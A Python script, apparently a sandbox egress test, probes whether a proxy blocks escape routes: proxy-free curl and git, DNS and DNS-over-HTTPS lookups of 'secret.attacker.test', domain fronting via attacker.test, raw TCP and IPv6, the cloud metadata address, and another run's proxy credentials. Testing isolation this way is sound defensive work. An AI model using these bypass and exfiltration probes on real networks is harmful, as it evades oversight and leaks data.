"""A client that has never heard of a proxy, and one that looks for other ways. Prints JSON."""

import base64
import json
import os
import re
import socket
import ssl
import struct
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

OUT = {}
POOL = ThreadPoolExecutor(32)
NO_PROXY = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
GATEWAY = socket.gethostbyname("host.docker.internal")
OTHER = os.environ.get("OTHER_GATEWAY", "")


def attempt(name, work):
    """All at once: most of the refused ones are waited for in vain."""
    POOL.submit(tell, name, work)


def tell(name, work):
    try:
        OUT[name] = work()
    except Exception as error:
        OUT[name] = f"refused: {error}"


def curl(*words):
    """Status and the proxy's rule, if it has one to name."""
    done = subprocess.run(
        ["curl", "-sS", "-i", "--max-time", "10", *words],
        capture_output=True,
        text=True,
        env=NO_PROXY,
        timeout=30,
    )
    status = re.findall(r"HTTP/\S+ (\d+)", done.stdout)[-1:] or [f"curl {done.returncode}"]
    return " ".join(status + re.findall(r"(?mi)^x-moat-rule: (\S+)", done.stdout))


def raw_client():
    """As a program that brings its own resolver library and its own TLS would."""
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    head = b"GET /status/200 HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\n\r\n"
    with (
        socket.create_connection(("api.github.com", 443), 10) as sock,
        context.wrap_socket(sock, server_hostname="api.github.com") as tls,
    ):
        tls.sendall(head)
        return tls.recv(12).decode()


def git():
    words = ["git", "ls-remote", "https://github.com/octo/repo.git", "HEAD"]
    return subprocess.run(words, capture_output=True, text=True, timeout=30, env=NO_PROXY).stdout[-5:].strip()


def question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def dns(server, name, kind):
    """Number of answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.sendto(question(name, kind), (server, 53))
        return struct.unpack("!H", sock.recv(4096)[6:8])[0]


def reached(address, user=""):
    password = f"Proxy-Authorization: Basic {base64.b64encode(user.encode()).decode()}\r\n" if user else ""
    head = f"GET http://api.github.com/ HTTP/1.1\r\nHost: api.github.com\r\n{password}\r\n"
    with socket.create_connection(address, 2) as sock:
        sock.sendall(head.encode())
        return "answered" if sock.recv(1) else "refused: cut off"


attempt("api.github.com", lambda: curl("https://api.github.com/status/200"))
attempt("http/1.1", lambda: curl("--http1.1", "https://api.github.com/status/200"))
attempt("denied.test", lambda: curl("https://denied.test/"))
attempt("plain denied.test", lambda: curl("http://denied.test/"))
attempt(
    "DoH",
    lambda: curl(
        "-H", "accept: application/dns-json", "https://dns.google/resolve?name=secret.attacker.test"
    ),
)
attempt("no name", lambda: curl("-k", f"https://{GATEWAY}/"))
attempt("fronted", lambda: curl("-H", "Host: api.github.com", "https://attacker.test/user"))
attempt("raw client", raw_client)
attempt("git", git)
for kind, number in (("A", 1), ("AAAA", 28), ("TXT", 16), ("HTTPS", 65)):
    attempt(f"dns {kind}", lambda number=number: dns(GATEWAY, "secret.attacker.test", number))
attempt("dns of the engine", lambda: dns("127.0.0.11", "secret.attacker.test", 16))
attempt("dns outside", lambda: dns("8.8.8.8", "secret.attacker.test", 16))
attempt("DoT", lambda: reached((GATEWAY, 853)))
attempt("DoT outside", lambda: reached(("8.8.8.8", 853)))
attempt("raw TCP", lambda: reached(("140.82.112.3", 443)))
attempt("IPv6", lambda: reached(("2606:50c0:8000::153", 443)))
attempt("v4-mapped", lambda: reached(("::ffff:140.82.112.3", 443)))
attempt("metadata", lambda: reached(("169.254.169.254", 80)))
if OTHER:
    theirs = urlsplit(os.environ["OTHER_PROXY"])
    user = f"{theirs.username}:{theirs.password}"  # even with the password that only that run has
    for port in (80, 443, theirs.port):
        attempt(f"another run's {port}", lambda port=port: reached((OTHER, port), user))
    attempt("another run's names", lambda: dns(OTHER, "a.test", 1))
POOL.shutdown()
sys.stdout.write(json.dumps(OUT))
